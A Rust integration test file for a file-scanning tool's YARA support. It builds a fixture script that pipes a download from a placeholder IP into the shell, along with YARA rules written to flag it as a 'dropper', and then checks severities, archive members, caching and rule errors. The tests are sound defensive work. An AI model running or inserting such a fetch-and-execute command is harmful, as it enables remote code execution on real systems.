//! Rules of YARA of the user, end to end: `cargo test --features yara --test yara`.

#![cfg(feature = "yara")]
#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "a panic in a test is a failed test")]

use std::ffi::OsString;
use std::fs;
use std::path::Path;

use assay::cli::{self, Exit, Terminal};

const RULES: &str = r##"
private rule is_script { strings: $a = "#!/bin/sh" condition: $a at 0 }
rule dropper : loader network {
    meta:
        author = "tests"
        severity = "Critical"
        tlp = 1
    strings:
        $url = "http://198.51.100.7/"
        $run = "| sh"
    condition:
        is_script and all of them
}
rule plain { strings: $a = "http://198.51.100.7/" condition: $a }
rule odd { meta: severity = "dreadful" note = "\x1b[31mred" strings: $a = "odd bytes" condition: $a }
"##;

fn assay(args: &[&str]) -> (Exit, String, String) {
    let (mut out, mut err) = (Vec::new(), Vec::new());
    let mut terminal = Terminal {
        out: &mut out,
        err: &mut err,
        out_is_terminal: false,
        out_is_log: false,
        err_is_terminal: false,
        width: 200,
        color: None,
    };
    let args = std::iter::once("assay").chain(args.iter().copied()).map(OsString::from);
    let exit = cli::run(args, &mut terminal);
    (exit, String::from_utf8(out).unwrap(), String::from_utf8(err).unwrap())
}

fn scan(root: &Path, rules: &Path, more: &[&str]) -> (Exit, String, String) {
    let (root, rules) = (root.to_str().unwrap(), rules.to_str().unwrap());
    assay(&[&["scan", "--rootfs", root, "--yara", rules], more].concat())
}

/// A tree, and a file of rules beside it.
fn lab() -> (tempfile::TempDir, std::path::PathBuf, std::path::PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let (root, rules) = (folder.path().join("root"), folder.path().join("rules.yar"));
    fs::create_dir(&root).unwrap();
    fs::write(&rules, RULES).unwrap();
    fs::write(root.join("run"), "#!/bin/sh\ncurl http://198.51.100.7/x | sh\n").unwrap();
    fs::write(root.join("odd"), "odd bytes, odd bytes").unwrap();
    fs::write(root.join("clean"), "nothing").unwrap();
    let mut tar = tar::Builder::new(fs::File::create(root.join("pack.tar")).unwrap());
    tar.append_path_with_name(root.join("odd"), "member").unwrap();
    tar.finish().unwrap();
    (folder, root, rules)
}

/// (severity, rule, path, facts) of the matches.
fn found(json: &str) -> Vec<(String, String, String, String)> {
    let report: serde_json::Value = serde_json::from_str(json).unwrap();
    let text = |value: &serde_json::Value| value.as_str().unwrap_or_default().to_owned();
    let mine = report["findings"].as_array().unwrap().iter().filter(|finding| finding["id"] == "yara-rule");
    mine.map(|finding| {
        let facts = finding["evidence"]["facts"].to_string();
        (text(&finding["severity"]), text(&finding["subject"]), text(&finding["location"]["path"]), facts)
    })
    .collect()
}

#[test]
fn rules_find_files_and_members_with_their_own_severity() {
    let (_folder, root, rules) = lab();
    let (exit, json, err) = scan(&root, &rules, &["--format", "json"]);
    assert_eq!((exit, err.as_str()), (Exit::FAILED, ""));
    let found = found(&json);
    let short: Vec<(&str, &str, &str)> = found
        .iter()
        .map(|(severity, rule, path, _)| (severity.as_str(), rule.as_str(), path.as_str()))
        .collect();
    let expected = [
        ("critical", "dropper", "/run"),
        ("high", "odd", "/odd"),
        ("high", "odd", "/pack.tar"),
        ("high", "odd", "/pack.tar!/member"),
        ("high", "plain", "/run"),
    ];
    assert_eq!(short, expected);
    assert!(found[0].3.contains("$url at byte 15, $run at byte 37"), "{}", found[0].3);
    assert!(found[0].3.contains("loader, network") && found[0].3.contains("author: tests"));
    let terminal = scan(&root, &rules, &["--verbose"]).1;
    assert!(!terminal.contains('\u{1b}') && terminal.contains("\\u{1b}[31mred"), "{terminal}");
}

#[test]
fn reports_are_the_same_on_any_number_of_threads() {
    let (_folder, root, rules) = lab();
    let on = |jobs| scan(&root, &rules, &["--format", "json", "--jobs", jobs]).1;
    assert_eq!(on("1"), on("3"));
}

#[test]
fn a_file_over_the_limit_is_a_gap() {
    let (_folder, root, rules) = lab();
    let large = fs::File::create(root.join("large")).unwrap();
    large.set_len(assay::detect::yara::WHOLE as u64 + 1).unwrap();
    let (_, json, _) = scan(&root, &rules, &["--format", "json"]);
    assert!(json.contains("no YARA rule was tried: it has more than"), "{json}");
}

#[test]
fn a_cache_does_not_pass_over_what_another_rule_finds() {
    let (folder, root, rules) = lab();
    let cache = folder.path().join("cache");
    let none = folder.path().join("none.yar");
    fs::write(&none, "rule nothing { condition: false }\n").unwrap();
    let with = |rules: &Path| scan(&root, rules, &["--format", "json", "--cache", cache.to_str().unwrap()]).1;
    assert!(found(&with(&none)).is_empty());
    assert_eq!(found(&with(&rules)).len(), 5);
    assert_eq!(found(&with(&rules)).len(), 5);
}

#[test]
fn a_folder_of_rules_is_read_and_errors_name_file_and_line() {
    let (folder, root, _) = lab();
    let rules = folder.path().join("rules");
    fs::create_dir(&rules).unwrap();
    let empty = scan(&root, &rules, &[]);
    assert_eq!(empty.0, Exit::USAGE);
    fs::write(rules.join("a.yar"), RULES).unwrap();
    // The same name in another file is another rule.
    fs::write(rules.join("b.yara"), RULES).unwrap();
    assert_eq!(found(&scan(&root, &rules, &["--format", "json"]).1).len(), 10);
    fs::write(rules.join("c.yar"), "rule broken {\n  condition:\n    $none\n}\n").unwrap();
    let (exit, out, err) = scan(&root, &rules, &[]);
    assert_eq!((exit, out.as_str()), (Exit::USAGE, ""));
    assert!(err.contains("c.yar:3"), "{err}");
    fs::write(rules.join("c.yar"), "include \"a.yar\"\n").unwrap();
    assert_eq!(scan(&root, &rules, &[]).0, Exit::USAGE);
}
